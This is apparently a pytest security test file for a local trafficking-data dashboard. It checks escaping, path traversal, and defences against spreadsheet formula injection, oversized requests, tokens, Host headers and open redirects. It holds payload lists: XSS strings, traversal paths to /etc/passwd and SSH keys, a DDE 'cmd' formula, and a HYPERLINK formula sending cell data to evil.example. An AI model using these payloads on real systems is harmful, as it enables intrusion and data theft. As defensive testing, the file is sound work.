"""The dashboard under attack: hostile text in the store, path traversal, spreadsheet formulas in
downloads, oversized requests, the access token, the Host header and the bind address.

The hostile store is made the way an attacker could make one: a GLOTIP file whose form-of-
exploitation categories and country names carry script and formula payloads (the categories load,
the unknown countries go to the quarantine with their raw text), a BibTeX file whose title,
authors and abstract carry them (imported into the review library), a document whose file name and
sentences carry them (coded into the store), and a country whose name in the store's countries
table was overwritten (a store file passed around). Every test prints how many cases it tried.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import socket
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlencode

import duckdb
import httpx
import markupsafe
import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from live_server import serving

import tiplens
from tiplens._api_coding import code as code_documents
from tiplens._api_review import review_import
from tiplens._cli_web import DEFAULT_HOST, is_loopback
from tiplens.report.views import View
from tiplens.web import exports
from tiplens.web.app import create_app
from tiplens.web.pages import PAGES

GLOTIP_CSV = "unodc_glotip/data_glotip_2025-04-14.csv"
PLANTED_COUNTRY = "NGA"

#: Script payloads. Each holds a marker ``xss-N`` that the checks look for.
XSS = [
    '<script>alert("xss-1")</script>',
    '"><img src=x onerror=alert("xss-2")>',
    "'><svg onload=alert('xss-3')>",
    '</script><script>alert("xss-4")</script>',
    '<iframe srcdoc="<script>alert(1)</script>" data-x="xss-5"></iframe>',
    '%{x}<b onmouseover=alert("xss-6")>hover</b>',
    '<a href="javascript:alert(\'xss-7\')">xss-7</a>',
    ']]><!--<script>alert("xss-8")</script>-->',
    '<style>@import "//evil.example/xss-9.css";</style>',
    '{{ 7*7 }}{% raw %}xss-10',
]
#: Literal markup that must never reach a page as markup (the escaped form is fine).
DANGEROUS = ["<script>alert", "<img src=x", "<svg onload", "<iframe", "<b onmouseover", '<a href="javascript',
             "<style>@import", "<!--<script"]
#: Spreadsheet formula payloads (OWASP CSV injection), with leading spaces and quotes.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "   @SUM(2,2)",
    '"=1+1',
    "'=1+1",
    " '+3+3",
    "=1+1\n",
    "-  2+3",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _glotip_row(iso3: str, country: str, dimension: str, category: str, year: int = 2020, value: str = "7"):
    return [iso3, country, "Africa", "Sub-Saharan Africa", "Detected trafficking victims", dimension, category,
            "Total", "Total", str(year), "Counts", value, "GLOTIP"]


@pytest.fixture(scope="module")
def hostile(real_data, tmp_path_factory):
    """A store holding every planted payload, written and closed (the apps open it themselves)."""
    folder = tmp_path_factory.mktemp("hostile")
    source = real_data / GLOTIP_CSV
    planted = folder / "data_glotip_2025-04-14.csv"
    shutil.copyfile(source, planted)
    with planted.open("a", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        for number, payload in enumerate(XSS + FORMULAS):
            # a new form of exploitation reported by Nigeria, and an unknown country with that name
            writer.writerow(_glotip_row("NGA", "Nigeria", "by form of exploitation", payload, value=str(5 + number)))
            writer.writerow(_glotip_row("ZZZ", payload, "Total", "Total", value="11"))
    bib = folder / "refs.bib"
    entries = [f"@article{{attack{i},\n  title = {{{p.replace('{', '(').replace('}', ')').replace('%', 'pct')} trafficking}},\n"
               f"  author = {{Doe, {p.replace('{', '(').replace('}', ')').replace('%', 'pct')}}},\n  year = {{2020}},\n"
               f"  abstract = {{{p.replace('{', '(').replace('}', ')').replace('%', 'pct')}}}\n}}\n" for i, p in enumerate(XSS)]
    bib.write_text("\n".join(entries), encoding="utf-8")
    document = folder / '"><img src=x onerror=alert("xss-doc")>.txt'
    document.write_text("\n\n".join(f"International cooperation between states {p} fights trafficking."
                                    for p in XSS) + "\n", encoding="utf-8")
    path = folder / "store.duckdb"
    store = tiplens.open_store(path, with_default=True)
    loaded = tiplens.ingest([planted], db=store, edition="2025-04-14")
    review_import([bib], db=store)
    code_documents([document], db=store, codebook="liberalism")
    store.close()
    with duckdb.connect(str(path)) as con:  # a store file passed around: a country renamed in it
        con.execute("UPDATE countries SET name = ? WHERE iso3 = ?", [XSS[1] + " Nigeria", PLANTED_COUNTRY])
    return {"path": path, "ingest": loaded, "document": document.name}


@pytest.fixture(scope="module")
def client(hostile):
    return TestClient(create_app(hostile["path"]))


class _Markup(HTMLParser):
    """Collects what a browser would build from a page: elements and their attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[tuple[dict, str]] = []
        self._in_script: dict | None = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc") and value and \
                    value.strip().lower().startswith(("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>")
        our_map = tag == "svg" and attributes.get("role") == "img"  # the world map drawn by tiplens
        if tag in ("iframe", "object", "embed", "base", "style", "svg", "img") and not our_map:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            self._in_script = attributes

    def handle_data(self, data):
        if self._in_script is not None:
            self.scripts.append((self._in_script, data))
            self._in_script = None

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script is not None:
            self.scripts.append((self._in_script, ""))
            self._in_script = None


def _assert_escaped(text: str, where: str) -> None:
    """No payload became markup: no event handler, no script URL, no element a page of ours never
    has, and every script is one of ours (a /static file, figure JSON, or the figure's drawing code)."""
    for marker in DANGEROUS:
        assert marker not in text, f"{where}: unescaped {marker!r}"
    parser = _Markup()
    parser.feed(text)
    assert not parser.problems, f"{where}: {parser.problems[:5]}"
    for attributes, body in parser.scripts:
        if "src" in attributes:
            assert attributes["src"].startswith("/static/"), (where, attributes)
        elif attributes.get("type") == "application/json":
            json.loads(body)  # figure data stays data: it parses as JSON as a whole
        else:
            assert body.startswith("(function () {\n  var spec = JSON.parse(") and "alert" not in body, \
                (where, body[:200])
    assert "{% raw %}" not in text or "{{ 7*7 }}" in text, where  # data is never rendered as a template


def _hostile_urls(client) -> list[str]:
    """Every page, with the planted categories and country selected where a filter offers them."""
    urls = list(PAGES)
    urls += ["/trends?form=each&country=NGA&from=2019&to=2021", f"/trends?country={PLANTED_COUNTRY}",
             "/sources?source=glotip", "/map?from=2020&to=2020"]
    urls += ["/trends?" + urlencode({"form": p, "from": 2020, "to": 2020}) for p in XSS]
    return urls


# -- cross-site scripting ---------------------------------------------------------------------------
def test_planted_payloads_reach_the_store(hostile, client):
    """The attack is real: the payloads are in the store and on the pages (escaped), so the
    escaping checks below look at them."""
    rows = list(csv.DictReader(io.StringIO(client.get("/sources?source=glotip&format=csv&view=quarantine")
                                           .content.decode("utf-8-sig"), newline="")))
    reasons = {row["reason"] for row in rows}
    for payload in XSS:
        assert f"country not matched: ZZZ / {payload}" in reasons, payload
    trends_html = client.get("/trends?form=each&country=NGA&from=2020&to=2020").text
    assert _escaped(XSS[0]) in trends_html  # an option label, escaped
    assert _escaped(XSS[1] + " Nigeria") in trends_html  # the renamed country
    assert "&lt;img src=x onerror=alert(" in client.get("/literature").text  # the document's name


def _escaped(text: str) -> str:
    """``text`` as the templates escape it (Jinja's autoescape: markupsafe)."""
    return str(markupsafe.escape(text))


def test_every_page_escapes_text_from_the_store(client):
    urls = _hostile_urls(client)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.text[:300])
        _assert_escaped(response.text, url)
    print(f"\nXSS via the store: {len(urls)} pages checked, {len(XSS)} script payloads planted in form "
          "categories, quarantined country names, a BibTeX title/author/abstract, a document name and text, "
          f"and a country name; {len(DANGEROUS)} markup patterns searched: none unescaped")


def test_filter_values_and_paths_are_escaped_on_error_pages(client):
    cases = []
    for payload in XSS:
        cases += [f"/trends?{urlencode({'indicator': payload})}", f"/trends?{urlencode({'region': payload})}",
                  f"/trends?{urlencode({payload: '1'})}", f"/sources?{urlencode({'source': payload})}",
                  f"/trends?{urlencode({'format': payload})}", f"/trends?{urlencode({'view': payload, 'format': 'csv'})}",
                  "/" + quote(payload, safe=""), f"/{quote(payload)}/x"]
    for url in cases:
        response = client.get(url)
        assert 400 <= response.status_code < 500, url
        _assert_escaped(response.text, url)
        assert response.headers["content-type"].startswith("text/html")
    print(f"\nXSS via filter values, parameter names and paths: {len(cases)} requests, all 4xx, all escaped")


def test_every_text_field_of_a_view_is_escaped(hostile):
    """Views whose text comes from knowledge-base entries or codebook labels (the dashboard reads
    the shipped knowledge base and shows code ids, not labels, so no stored file reaches these
    fields today): every field of a view is put through the page template with a payload."""
    app = create_app(hostile["path"])
    client = TestClient(app)
    payload = " ".join(XSS)
    table = pd.DataFrame({payload: XSS, "entry": XSS[::-1], "n": range(len(XSS))})
    figure = {"data": [{"type": "bar", "x": XSS, "y": list(range(len(XSS))), "name": payload,
                        "hovertemplate": XSS[5] + "<extra></extra>"}],
              "layout": {"title": {"text": payload}}}
    views = [View(id="kb-entries", title=payload, figure=figure, table=table, caption=payload, source=payload,
                  edition=payload, countries=payload, caveat=payload, notes=XSS),
             View(id="kb-table", title=payload, table=table, caption=payload, source=payload, notes=XSS),
             View(id="kb-empty", title=payload, empty_reason=payload)]
    app.state.holder.current.extras["cooperation"] = views
    response = client.get("/cooperation")
    assert response.status_code == 200
    _assert_escaped(response.text, "/cooperation with hostile views")
    assert response.text.count(_escaped(XSS[0])) >= 10
    print(f"\nXSS via view fields: 3 views x 9 fields, {len(XSS)} payloads each: all escaped")


# -- path traversal ------------------------------------------------------------------------------------
TRAVERSALS = [
    "/static/../pyproject.toml", "/static/../../etc/passwd", "/static/../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/etc/passwd", "/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/static/%252e%252e%252fetc%252fpasswd", "/static/..\\..\\etc\\passwd", "/static/..%5c..%5capp.py",
    "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/static/app.js%00.py", "/static/....//....//etc/passwd",
    "/static/.%2e/app.py", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/static/figure.css/../../app.py",
    "/static/plotly.min.js/../../../../etc/passwd", "/static/app.py", "/static/__init__.py", "/static/.",
    "/static/..", "/static/%2e%2e", "//etc/passwd", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
    "/static/~/.ssh/id_rsa", "/static/%7e/.bashrc", "/static//proc/self/environ", "/etc/passwd",
    "/trends?format=csv&view=../../etc/passwd", "/trends?format=csv&view=/etc/passwd",
    "/trends?format=csv&view=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/trends?format=../../etc/passwd",
    "/trends?format=/etc/passwd", "/trends?format=csv/../../etc/passwd", "/sources?format=xlsx&view=..%2F..%2Fapp",
    "/trends?format=xlsx&view=....//....//etc/passwd", "/static/app.js?file=../../etc/passwd",
]
SECRETS = ["root:x:0:", "[project]", "def create_app", "import ", "PATH=", "BEGIN OPENSSH"]


def _check_traversal_answer(path: str, status: int, body: bytes, headers: dict) -> None:
    text = body.decode("utf-8", "replace")
    if status == 200:  # a file the server offers on purpose, or a page the dots resolved to
        assert path.startswith("/static/app.js") or text.startswith("<!doctype html>"), (path, text[:200])
    else:
        assert status in (400, 404, 405), (path, status)
    for secret in SECRETS[:5] if not path.startswith("/static/app.js") else SECRETS[:3]:
        assert secret not in text, (path, secret)
    disposition = headers.get("content-disposition", "")
    assert ".." not in disposition and "/" not in disposition.split("filename=")[-1], disposition


def test_path_traversal_through_the_app(client):
    for path in TRAVERSALS:
        response = client.get(path)
        _check_traversal_answer(path, response.status_code, response.content, dict(response.headers))
    print(f"\npath traversal through the app (ASGI): {len(TRAVERSALS)} paths, none served a file outside the "
          "three static files")


def test_path_traversal_over_the_wire(live_server):
    """The same paths sent byte for byte (no client normalises the dots)."""
    for path in TRAVERSALS:
        status, headers, body = _raw(live_server["port"], f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                                          "Connection: close\r\n\r\n".encode("latin-1"))
        _check_traversal_answer(path, status, body, headers)
    assert _raw(live_server["port"], _get_bytes("/"))[0] == 200
    print(f"\npath traversal over a socket to `tiplens serve`: {len(TRAVERSALS)} raw paths, none served a file")


# -- spreadsheet formulas -------------------------------------------------------------------------------
def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def _formula_risk(text: str) -> bool:
    """True if a spreadsheet could read ``text`` as a formula: a formula character first, or after
    leading blanks and quotes (some spreadsheets strip those), unless the cell starts with the
    apostrophe that marks text."""
    if not isinstance(text, str) or not text or text.startswith("'") or _is_number(text.strip()):
        return False
    return text.lstrip(" \"'\u00a0").startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS)


def _check_csv(content: bytes, where: str) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    risky = [cell for cell in cells if _formula_risk(cell)]
    assert not risky, f"{where}: cells a spreadsheet would run: {risky[:5]}"
    return len(cells)


def _check_xlsx(content: bytes, where: str) -> int:
    book = openpyxl.load_workbook(io.BytesIO(content))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                checked += 1
                assert cell.data_type != "f", f"{where}: formula cell {cell.coordinate} {cell.value!r}"
                assert not _formula_risk(cell.value), f"{where}: {cell.coordinate} {cell.value!r}"
    return checked


def test_downloads_neutralise_formulas_planted_in_the_store(client):
    downloads = ["/trends?form=each&country=NGA&from=2019&to=2021", "/sources?source=glotip&view=quarantine",
                 "/sources?view=quarantine-summary", "/literature?view=coding-profile", "/cooperation?view=lens-gaps",
                 "/trends?country=NGA"]
    cells = 0
    for url in downloads:
        for fmt in exports.FORMATS:
            response = client.get(f"{url}&format={fmt}")
            assert response.status_code == 200, (url, fmt, response.text[:300])
            cells += (_check_csv if fmt == "csv" else _check_xlsx)(response.content, f"{url} {fmt}")
    # the planted categories are in the trends download, each marked as text
    rows = list(csv.DictReader(io.StringIO(client.get("/trends?form=each&country=NGA&from=2020&to=2020&format=csv")
                                           .content.decode("utf-8-sig"), newline="")))
    categories = {row["category"] for row in rows}
    assert "'=cmd|' /C calc'!A0" in categories and "'@SUM(1,1)" in categories
    print(f"\nformula injection, store to download: {len(FORMULAS)} payloads planted, {len(downloads)} views x "
          f"{len(exports.FORMATS)} formats, {cells} cells read back: none would run")


def test_exports_neutralise_every_formula_form():
    """The export step alone, on text, categorical and mixed columns and on column names."""
    frame = pd.DataFrame({
        "text": FORMULAS,
        "categorical": pd.Categorical(FORMULAS),
        "mixed": [f if i % 2 else -i for i, f in enumerate(FORMULAS)],
        "number": [-float(i) for i in range(len(FORMULAS))],
    })
    frame[FORMULAS[0]] = 1
    frame["=SUM(A1:A3)"] = "x"
    checked = 0
    for fmt in exports.FORMATS:
        body = exports.to_bytes(frame, fmt, sheet="=evil/[sheet]")
        checked += (_check_csv if fmt == "csv" else _check_xlsx)(body, f"exports {fmt}")
    back = pd.read_excel(io.BytesIO(exports.to_bytes(frame, "xlsx")), engine="openpyxl")
    assert back["number"].tolist() == frame["number"].tolist()  # negative numbers stay numbers
    print(f"\nformula injection, export step: {len(FORMULAS)} payloads x 4 column kinds + 2 column names, "
          f"2 formats, {checked} cells: none would run")


# -- oversized requests ------------------------------------------------------------------------------------
def _get_bytes(path: str, extra: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{extra}Connection: close\r\n\r\n".encode("latin-1")


def _raw(port: int, request: bytes, body_chunks=(), timeout: float = 30) -> tuple[int, dict, bytes]:
    """Send bytes, read the answer; status 0 when the server closed without answering."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        try:
            sock.sendall(request)
            for chunk in body_chunks:
                sock.sendall(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server may answer and close before reading everything
        data = b""
        try:
            while chunk := sock.recv(65536):
                data += chunk
        except ConnectionResetError:
            pass
    if not data.startswith(b"HTTP/"):
        return 0, {}, data
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = dict(line.split(": ", 1) for line in lines[1:] if ": " in line)
    return int(lines[0].split()[1]), {k.lower(): v for k, v in headers.items()}, body


@pytest.fixture(scope="module")
def live_server(hostile, tmp_path_factory):
    """`tiplens serve` on a free port of 127.0.0.1 (the default host), in its own process."""
    with serving(hostile["path"], tmp_path_factory.mktemp("serve") / "serve.log") as served:
        yield served


def _rss_mb(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) / 1024


def test_oversized_requests_get_4xx_and_the_server_stays_up(live_server):
    port, process = live_server["port"], live_server["process"]
    big_body = 64 * 1024 * 1024
    cases = {
        "query string of 100 KB": _get_bytes("/trends?indicator=" + "a" * 100_000),
        "query string of 1 MB": _get_bytes("/trends?x=" + "a" * 1_000_000),
        "10,000 unknown parameters (60 KB)": _get_bytes("/trends?" + "&".join(f"p{i}=1" for i in range(10_000))),
        "1,000 unknown parameters (7 KB)": _get_bytes("/trends?" + "&".join(f"p{i}=1" for i in range(1_000))),
        "700 repeats of a valid parameter (7 KB)": _get_bytes("/trends?" + "&".join(["panel=all"] * 700)),
        "a filter value of 7 KB": _get_bytes("/trends?region=" + "%3C" * 2_400),
        "a filter value of 15 KB": _get_bytes("/trends?region=" + "%3C" * 5_000),
        "path of 100 KB": _get_bytes("/" + "a" * 100_000),
        "a header of 100 KB": _get_bytes("/", "X-Big: " + "a" * 100_000 + "\r\n"),
        "500 headers": _get_bytes("/", "".join(f"X-H{i}: {'a' * 100}\r\n" for i in range(500))),
        "a cookie of 64 KB": _get_bytes("/", "Cookie: tiplens_token=" + "a" * 65_536 + "\r\n"),
        f"POST /reload with a declared body of {big_body // 2**20} MB":
            (b"POST /reload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             b"Content-Length: %d\r\nConnection: close\r\n\r\n" % big_body, [b"next=/&" + b"a" * (1024 * 1024 - 7)] * 64),
        "POST /reload chunked, 16 MB": (
            b"POST /reload HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
            [b"100000\r\n" + b"a" * 0x100000 + b"\r\n"] * 16 + [b"0\r\n\r\n"]),
        "POST /reload with a next= of 200 KB": (
            b"POST /reload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
            % (5 + 200_000), [b"next=" + b"/" + b"a" * 199_999]),
        "POST to a page with 8 MB": (
            b"POST /trends HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 8388608\r\nConnection: close\r\n\r\n",
            [b"a" * 1024 * 1024] * 8),
    }
    rss_before = _rss_mb(process.pid)
    outcomes = {}
    for name, request in cases.items():
        head, chunks = (request, ()) if isinstance(request, bytes) else request
        status, _, body = _raw(port, head, chunks)
        outcomes[name] = status
        assert status == 0 or 400 <= status < 500, (name, status, body[:300])
        assert process.poll() is None, f"server died on: {name}"
        assert _raw(port, _get_bytes("/static/app.js"))[0] == 200, f"server unusable after: {name}"
    rss_after = _rss_mb(process.pid)
    assert rss_after - rss_before < 200, (rss_before, rss_after)
    assert all(status != 0 for status in outcomes.values()), outcomes
    print(f"\noversized requests: {len(cases)} cases, answers {sorted(set(outcomes.values()))}, server up after "
          f"each; RSS {rss_before:.0f} -> {rss_after:.0f} MB")
    for name, status in outcomes.items():
        print(f"  {status}  {name}")


# -- access token ------------------------------------------------------------------------------------------
TOKEN = "s3cret-token-for-the-attack-tests"


def _every_route() -> list[tuple[str, str]]:
    routes = [("GET", path) for path in PAGES]
    routes += [("GET", p) for p in ("/static/app.js", "/static/style.css", "/static/figure.css",
                                    "/static/plotly.min.js", "/static/missing.js", "/no-such-page",
                                    "/trends?format=csv", "/trends?format=xlsx", "/sources?format=csv&view=quarantine",
                                    "/trends?indicator=nonsense")]
    routes += [("POST", "/reload"), ("HEAD", "/"), ("HEAD", "/static/app.js"), ("OPTIONS", "/"), ("PUT", "/reload"),
               ("DELETE", "/")]
    return routes


def test_every_route_needs_the_token(hostile):
    app = create_app(hostile["path"], token=TOKEN)
    wrong = ["wrong", TOKEN[:-1], TOKEN + "x", TOKEN.upper(), "x" * 5_000, "é" * 8]
    tried = 0
    for method, path in _every_route():
        with TestClient(app) as anonymous:
            response = anonymous.request(method, path)
            assert response.status_code == 401, (method, path, response.status_code)
            assert TOKEN not in response.text
            for header in ({"Authorization": "Bearer "}, {"Authorization": "Basic " + TOKEN},
                           {"Authorization": "Token " + TOKEN}, {"Cookie": "tiplens_token="}):
                assert anonymous.request(method, path, headers=header).status_code == 401, (method, path, header)
            tried += 5
        for bad in wrong:
            with TestClient(app) as client:
                sep = "&" if "?" in path else "?"
                assert client.request(method, f"{path}{sep}{urlencode({'token': bad})}").status_code == 403, path
                assert client.request(method, path, headers={"Authorization": f"Bearer {bad}".encode()}
                                      ).status_code in (401, 403), (path, bad)
                cookie = {"Cookie": b"tiplens_token=" + quote(bad).encode()}
                assert client.request(method, path, headers=cookie).status_code == 403, (path, bad)
                tried += 3
        with TestClient(app) as allowed:
            response = allowed.request(method, path, headers={"Authorization": f"Bearer {TOKEN}"},
                                       follow_redirects=False)
            assert response.status_code not in (401, 403), (method, path)
            tried += 1
    print(f"\naccess token: {len(_every_route())} routes x (no token, 4 empty or wrong schemes, {len(wrong)} wrong "
          f"tokens in query, header and cookie, the right one): {tried} requests, every refusal 401/403")


def test_a_wrong_token_in_the_query_does_not_override_a_good_cookie_into_access(hostile):
    app = create_app(hostile["path"], token=TOKEN)
    with TestClient(app) as client:
        assert client.get(f"/?token={TOKEN}").status_code == 200
        assert client.cookies.get("tiplens_token") == TOKEN
        assert client.get("/trends").status_code == 200  # the cookie alone
        assert client.get("/?token=wrong").status_code == 403
    print("\ntoken sources: 4 cases (query sets cookie, cookie alone, wrong query beside a good cookie)")


# -- Host header and bind address --------------------------------------------------------------------------
def test_without_a_token_only_local_host_names_are_answered(hostile):
    """DNS rebinding: a web page on evil.example can point its own name at 127.0.0.1 and read
    the dashboard with the user's browser; the Host header it sends then names evil.example."""
    client = TestClient(create_app(hostile["path"]))
    refused = ["evil.example", "evil.example:8000", "127.0.0.1.nip.io", "localhost.evil.example",
               "192.168.1.10:8000", "[::ffff:8.8.8.8]", "", "0.0.0.0:8000"]
    allowed = ["127.0.0.1:8000", "localhost:8000", "localhost", "[::1]:8000", "127.0.0.2"]
    for host in refused:
        response = client.get("/", headers={"Host": host})
        assert response.status_code in (400, 403, 421), (host, response.status_code)
        assert "Nigeria" not in response.text
    for host in allowed:
        assert client.get("/", headers={"Host": host}).status_code == 200, host
    token_client = TestClient(create_app(hostile["path"], token=TOKEN))
    assert token_client.get("/", headers={"Host": "dashboard.example.org",
                                          "Authorization": f"Bearer {TOKEN}"}).status_code == 200
    print(f"\nHost header without a token: {len(refused)} foreign names refused, {len(allowed)} local ones "
          "answered; with a token any name is answered")


@pytest.fixture(scope="module")
def small_store(tmp_path_factory):
    """The embedded default only: quick to reload."""
    path = tmp_path_factory.mktemp("small") / "store.duckdb"
    tiplens.open_store(path, with_default=True).close()
    return path


def test_reload_redirects_only_to_this_server(small_store):
    client = TestClient(create_app(small_store))
    targets = ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
               "/\\/evil.example", "http:/evil.example", "javascript:alert(1)", " //evil.example", "\t//evil.example",
               "/%2f/evil.example", "/%5cevil.example"]
    for target in targets:
        response = client.post("/reload", data={"next": target}, follow_redirects=False)
        assert response.status_code == 303, target
        location = response.headers["location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")) and "\\" not in location[:3]
        assert "evil.example" not in location.split("?")[0][:2]
    print(f"\nopen redirect through POST /reload next=: {len(targets)} targets, all kept on this server")


def test_cross_site_posts_are_refused(hostile):
    client = TestClient(create_app(hostile["path"]))
    origins = ["http://evil.example", "null", "http://127.0.0.1.evil.example", "https://testserver.evil.example",
               "file://"]
    for origin in origins:
        assert client.post("/reload", headers={"Origin": origin}).status_code == 403, origin
    print(f"\ncross-site POST /reload: {len(origins)} foreign origins refused")


def test_the_default_bind_address_is_loopback(live_server):
    """The live server was started without --host: it listens on 127.0.0.1 only (read from the
    kernel's socket table), and the command's default says so."""
    assert DEFAULT_HOST == "127.0.0.1"
    port_hex = f"{live_server['port']:04X}"
    listening = [line.split()[1] for line in Path("/proc/net/tcp").read_text().splitlines()[1:]
                 if line.split()[1].endswith(":" + port_hex) and line.split()[3] == "0A"]
    six = [line.split()[1] for line in Path("/proc/net/tcp6").read_text().splitlines()[1:]
           if line.split()[1].endswith(":" + port_hex) and line.split()[3] == "0A"] \
        if Path("/proc/net/tcp6").exists() else []
    assert listening == ["0100007F:" + port_hex] and not six, (listening, six)
    local = ["127.0.0.1", "127.8.9.10", "::1", "localhost"]
    foreign = ["0.0.0.0", "::", "192.168.1.5", "10.0.0.1", "localhost.evil.example", "127.0.0.1.nip.io",
               "::ffff:127.0.0.1", "example.org", "0", "LOCALHOST.", ""]
    assert all(is_loopback(h) for h in local) and not any(is_loopback(h) for h in foreign)
    print(f"\nbind address: default 127.0.0.1 seen in /proc/net/tcp; {len(local)} local and {len(foreign)} "
          "non-local host names classified (a non-local one gets a generated token)")


def test_a_non_local_host_without_a_token_gets_one(hostile):
    """`tiplens serve --host 0.0.0.0` without --token: prints a warning and an address with a new
    token, and refuses requests without it."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    process = subprocess.Popen([str(Path(sys.executable).with_name("tiplens")), "serve", "--host", "0.0.0.0",
                                "--port", str(port), "--db", str(hostile["path"])],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = process.stdout.readline()
        assert "?token=" in line, line
        token = line.split("?token=")[1].split()[0]
        assert len(token) >= 24
        base = f"http://127.0.0.1:{port}"
        assert httpx.get(base + "/").status_code == 401
        assert httpx.get(base + "/static/app.js").status_code == 401
        assert httpx.get(base + "/trends?format=csv").status_code == 401
        assert httpx.get(f"{base}/?token={token}").status_code == 200
    finally:
        process.terminate()
        _, stderr = process.communicate(timeout=15)
    assert "warning" in stderr.lower()
    print("\nnon-local --host without --token: a token was generated, printed, and required (4 requests)")


# -- in a real browser --------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def browser():
    playwright = pytest.importorskip("playwright.sync_api")
    if not Path("/usr/bin/chromium").exists():
        pytest.skip("Debian chromium (/usr/bin/chromium) is not installed")
    with playwright.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path="/usr/bin/chromium",
                                     args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                                           "--disable-component-update", "--no-first-run"])
        yield chromium
        chromium.close()


INJECTED = r"""() => {
  const found = [];
  document.querySelectorAll('[onerror],[onload],[onmouseover],iframe,img[src="x"]').forEach(
      e => found.push(e.outerHTML.slice(0, 120)));
  document.querySelectorAll('style').forEach(s => { if (/evil\.example|xss-/.test(s.textContent)) found.push(s.outerHTML.slice(0, 120)); });
  document.querySelectorAll('script:not([type="application/json"])').forEach(s => {
    if (/alert\(/.test(s.textContent)) found.push(s.outerHTML.slice(0, 120)); });
  document.querySelectorAll('a[href^="javascript"], [href^="javascript"]').forEach(e => found.push(e.outerHTML.slice(0, 120)));
  return found;
}"""


def test_no_payload_runs_in_the_browser(browser, live_server):
    base = f"http://127.0.0.1:{live_server['port']}"
    context = browser.new_context()
    page = context.new_page()
    dialogs, outside = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route("**/*", lambda route: (outside.append(route.request.url), route.abort())
               if not route.request.url.startswith(base) else route.continue_())
    urls = [*PAGES, "/trends?form=each&country=NGA&from=2019&to=2021", "/sources?source=glotip", "/map?from=2020&to=2020",
            "/trends?" + urlencode({"region": XSS[0]}), "/" + quote(XSS[1], safe="")]
    hovered = 0
    try:
        for url in urls:
            page.goto(base + url, wait_until="load")
            page.wait_for_timeout(300)
            # hover legend entries and chart points, where a payload in a label would fire
            for item in page.query_selector_all(".legend .traces")[:25]:
                item.hover(force=True, timeout=5000)
                hovered += 1
            injected = page.evaluate(INJECTED)
            assert not injected, (url, injected)
        assert not dialogs, dialogs
        assert not outside, outside
    finally:
        context.close()
    print(f"\nbrowser: {len(urls)} pages with the planted payloads opened in Chromium, {hovered} legend labels "
          "hovered: no dialog, no injected element, no request elsewhere")
